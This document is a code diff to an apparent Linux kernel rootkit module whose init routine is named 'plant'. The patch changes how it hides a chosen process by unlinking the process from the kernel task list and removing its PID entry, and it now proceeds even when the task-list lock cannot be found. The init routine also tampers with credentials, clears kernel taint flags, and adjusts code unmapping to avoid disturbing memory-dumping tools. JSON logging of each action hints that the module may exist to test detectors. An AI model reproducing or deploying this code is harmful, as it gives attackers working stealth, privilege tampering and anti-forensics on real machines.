@@ -36,16 +36,33 @@ static struct task_struct *task_of(int pid)
     return t;
 }
 
+/* The lock of the list has no name where the kernel's names are those of functions only. */
+static void take(rwlock_t *lock)
+{
+    if (lock)
+        write_lock_irq(lock);
+    else
+        local_irq_disable();
+}
+
+static void give(rwlock_t *lock)
+{
+    if (lock)
+        write_unlock_irq(lock);
+    else
+        local_irq_enable();
+}
+
 static void unlink_task(void)
 {
     struct task_struct *t = task_of(task);
     rwlock_t *lock = (void *)look_up("tasklist_lock");
 
-    if (!t || !lock)
+    if (!t)
         return;
-    write_lock_irq(lock);
+    take(lock);
     list_del_init(&t->tasks);
-    write_unlock_irq(lock);
+    give(lock);
     mark("\"task\",\"pid\":%d,\"comm\":\"%s\",\"task\":\"%lx\"", task, t->comm, (unsigned long)t);
 }
 
@@ -56,13 +73,13 @@ static void unlink_number(void)
     rwlock_t *lock = (void *)look_up("tasklist_lock");
     struct pid *pid;
 
-    if (!t || !lock)
+    if (!t)
         return;
     pid = task_pid(t);
-    write_lock_irq(lock);
+    take(lock);
     list_del_init(&t->tasks);
     idr_remove(&init_pid_ns.idr, gone);
-    write_unlock_irq(lock);
+    give(lock);
     mark("\"task_number\",\"pid\":%d,\"comm\":\"%s\",\"task\":\"%lx\",\"number\":\"%lx\"", gone,
          t->comm, (unsigned long)t, (unsigned long)pid);
 }
@@ -226,9 +243,10 @@ static int __init plant(void)
     share_credentials();
     write_credentials();
     relabel_memory();
-    unmap_text("module", (unsigned long)clear_taints);
+    unmap_text("module", (unsigned long)task_of);
 #ifdef CONFIG_X86
-    unmap_text("kernel", look_up("__x64_sys_acct"));
+    if (!cut) /* what dumps memory from inside would fall over it */
+        unmap_text("kernel", look_up("__x64_sys_acct"));
 #endif
     change_pages();
     clear_taints();
